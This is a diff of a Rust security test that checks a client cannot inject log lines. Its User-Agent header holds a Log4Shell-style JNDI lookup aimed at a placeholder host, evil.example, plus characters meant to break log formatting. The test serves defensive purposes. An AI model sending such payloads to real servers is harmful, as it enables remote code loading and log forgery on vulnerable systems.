@@ -22,7 +22,7 @@ async fn attack_38_a_client_cannot_write_a_log_line() {
     ))
     .await;
     app.request(Method::GET, "/api/health")
-        .header("user-agent", "a ${jndi:ldap://evil.example/a} \u{1b}[31m")
+        .header("user-agent", "a ${jndi:ldap://evil.example/a}\t\"}{")
         .send()
         .await;
 
